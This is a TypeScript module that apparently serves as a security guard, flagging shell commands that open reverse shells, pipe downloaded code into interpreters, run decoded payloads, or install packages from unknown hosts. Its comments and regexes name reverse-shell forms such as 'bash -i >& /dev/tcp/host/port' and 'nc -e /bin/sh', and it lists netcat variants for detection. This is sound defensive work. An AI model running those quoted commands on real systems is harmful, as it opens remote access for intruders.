import { namesIn, tableOf } from "../../../src/protocol/json/table.ts";
import { UNKNOWN } from "../../../src/shell/unknown.ts";
import type { Call, CommandAnalysis } from "../command/call.ts";
import { beginsUnknown, isInterpreter, isShell, plainName, runsWhat } from "../command/inline-code/interpreters.ts";
import { optionValues, parseOptions } from "../command/options.ts";
import { isSocketPath } from "../command/paths.ts";
import { type Finding, type Guard, strictest } from "../guard.ts";
import { fullSource, readRules, redirectionsOf } from "./command-rules.ts";
import hostTable from "./egress/hosts.json" with { type: "json" };
import { effectOfCode } from "./remote-code/code-effects.ts";
import { runOfDownload } from "./remote-code/downloads.ts";
import { createOrigins, isNetworkAddress, type Origin, type Origins } from "./remote-code/origins.ts";
import table from "./remote-code/rules.json" with { type: "json" };

const RULES = readRules(table);

export const remoteCode: Guard = {
  ...RULES.guard,
  judgeCommand: ({ calls }) => {
    const origins = createOrigins();
    const found = strictest(calls.map((call) => judgeCall(call, { origins, calls })));
    const run = found === null ? runOfDownload(calls, origins) : null;
    const finding = run === null ? found : RULES.find("run-download", run.source);
    return finding && { ...finding, targets: addressesIn(calls) };
  },
};

/** The addresses that a command names, without their protocol. */
const addressesIn = (calls: readonly Call[]): readonly string[] =>
  calls
    .flatMap(({ args }) => args.map(({ text }) => text))
    .flatMap((text) =>
      [...text.matchAll(/\b(?:https?|ftp):\/\/([^\s"'`)|;<>\0]+)/gi)].map(([, address = ""]) => address),
    );

interface Command {
  readonly calls: CommandAnalysis["calls"];
  readonly origins: Origins;
}

function judgeCall(call: Call, command: Command): Finding | null {
  const effect = effectOfCode(call);
  if (opensShell(call) || effect === "reverse shell") return RULES.find("reverse-shell", call.source);
  const origin = originOfCode(call, command);
  if (origin !== null) return RULES.find(origin === "network" ? "pipe-to-interpreter" : "run-decoded", call.source);
  if (effect !== null) return RULES.find("code-that-fetches", call.source);
  const runs = runsWhat(call);
  const isUrl = runs.kind === "file" && /^(?:https?|ftp):\/\//i.test(runs.file.text);
  return isUrl || installsUnknown(call) ? RULES.find("run-url", call.source) : RULES.judgeByForm(call);
}

const { known } = tableOf<{ readonly known: string }>(hostTable);
const INSTALLS =
  /^(?:npm|pnpm|yarn|bun|npx|pnpx|bunx|pip[\d.]*|pipx|uv|uvx|gem|cargo|go|brew|easy_install|luarocks|composer|opam|nimble)$/;
const INDEX = /^(?:--?(?:index-url|extra-index-url|find-links|source|registry|repository)|-i|-f)(?:=|$)/;

/** `npm install https://host/x.tgz`, `pip install -i http://host/simple x`: the code of a host that is not known. */
function installsUnknown({ program, args }: Call): boolean {
  const words = args.map(({ text }) => text);
  if (
    !INSTALLS.test(program) ||
    words.some((text) => /^(?:config|publish|view|info|search|list|init|test)$/.test(text))
  )
    return false;
  const isKnown = (host: string): boolean =>
    namesIn(known).some((name) => host === name || host.endsWith(`.${name}`)) || !host.includes(".");
  return words.some((text, at) => {
    const isNamed = /(?:^|@|=)(?:git\+)?(?:https?|ssh|git|ftp):\/\//i.test(text);
    const host = /(?:\/\/)(?:[^@/\s]*@)?([\w.-]+)/.exec(text)?.[1]?.toLowerCase();
    if (!isNamed || host === undefined || /\0/.test(text)) return false;
    return (
      !isKnown(host) && (INDEX.test(text) || INDEX.test(words[at - 1] ?? "") || !/^--?(?:proxy|https-proxy)/.test(text))
    );
  });
}

/** The origin of the code that a call runs; null if it is in the command or in a local file. */
function originOfCode(call: Call, command: Command): Origin | null {
  const { origins, calls } = command;
  const named = origins.ofWord(call.name);
  if (named !== null && call.name.text.startsWith(UNKNOWN)) return named;
  const runs = runsWhat(call);
  switch (runs.kind) {
    case "nothing":
      return null;
    case "input":
      return origins.ofInput(call) ?? (isFromDescriptor(call) ? originOfAny(command) : null);
    case "file":
      return origins.ofWord(runs.file) ?? (DESCRIPTOR.test(runs.file.text) ? originOfAny(command) : null);
    case "code": {
      const [first] = runs.code;
      if (first === undefined || !beginsUnknown(first)) return null;
      const inWords = runs.code.map(origins.ofWord).find((origin) => origin !== null);
      return inWords ?? (first.text === UNKNOWN ? (origins.ofInput(call) ?? originOfCaptured(calls, origins)) : null);
    }
  }
}

/** True if it reads text that other calls of the command may have written: `<<< "$X"`, `<&3`, `tee >(sh)`. */
const isFromDescriptor = (call: Call): boolean => {
  const { input } = call;
  return (
    (input.kind === "text" && input.text.trim() === UNKNOWN) ||
    (input.kind === "pipe" && input.from.length === 0) ||
    (input.kind === "file" && DESCRIPTOR.test(input.file.text)) ||
    /<&\s*["$\d]/.test(fullSource(call))
  );
};

const DESCRIPTOR = /^(?:\/dev|\/proc\/[^/]+)\/fd\//;

const originOfAny = ({ calls, origins }: Command): Origin | null =>
  calls.map(origins.ofOutput).find((origin) => origin !== null) ?? null;

/** The origin of the text in a variable: `CODE=$(curl …); eval "$CODE"`. */
function originOfCaptured(calls: readonly Call[], origins: Origins): Origin | null {
  const captured = calls.filter(({ isCaptured }) => isCaptured);
  return captured.map(origins.ofOutput).find((origin) => origin !== null) ?? null;
}

const NETCATS = /^(?:nc|ncat|netcat|nc\.(?:openbsd|traditional)|nc6|pwncat)$/;
const NETCAT = {
  values: "-e -c -p -s -w -q -i -x -X --exec --sh-exec --lua-exec --source-port",
  flags: "--listen --keep-open --verbose --ssl --udp",
};

/** True if a call connects the input and output of a shell to the network. */
const opensShell = (call: Call): boolean => execsShell(call) || connectsShell(call) || pipesShell(call);

/** `nc -e /bin/sh`, `socat TCP:… EXEC:/bin/sh`. */
function execsShell({ program, args }: Call): boolean {
  const name = plainName(program);
  if (NETCATS.test(name)) return optionValues(parseOptions(args, NETCAT), "-e -c --exec --sh-exec").some(startsShell);
  if (name !== "socat") return false;
  const addresses = args.map(({ text }) => text);
  return addresses.some(isNetworkAddress) && addresses.some(isShellAddress);
}

const isShellAddress = (address: string): boolean =>
  /^shell\b/i.test(address) ||
  (/^(?:exec|system):/i.test(address) && hasShell(address.replace(/^\w+:/, "").split(",")[0] ?? ""));

const startsShell = ({ text }: { readonly text: string }): boolean => text.includes("\0") || hasShell(text);

/** The programs of a short command line. */
const hasShell = (text: string): boolean =>
  text
    .split(/[\s"';&|]+/)
    .some((word) => isInterpreter(word.slice(word.lastIndexOf("/") + 1)) || /^cmd(?:\.exe)?$/i.test(word));

/** `bash -i >& /dev/tcp/host/port 0>&1`. */
function connectsShell(call: Call): boolean {
  if (!isInterpreter(call.program)) return false;
  const runs = runsWhat(call);
  if (runs.kind !== "input") return false;
  const sockets = redirectionsOf(call).filter(({ target }) => isSocketPath(target.text));
  const readsOutput = /0[<>]?>?&|<&|<>/.test(fullSource(call));
  return sockets.some(({ kind, descriptor }) => readsOutput || (kind === "read" && (descriptor ?? 0) === 0));
}

/** `cat pipe | sh -i 2>&1 | nc host port > pipe`: a shell that reads from a pipe prints to the network. */
function pipesShell({ program, input }: Call): boolean {
  const isNetwork = NETCATS.test(plainName(program)) || ["telnet", "socat", "openssl"].includes(plainName(program));
  if (!isNetwork || input.kind !== "pipe") return false;
  const readsPipe = (shell: Call): boolean => shell.input.kind === "file" || shell.input.kind === "pipe";
  return input.from.some((from) => isShell(from.program) && runsWhat(from).kind === "input" && readsPipe(from));
}
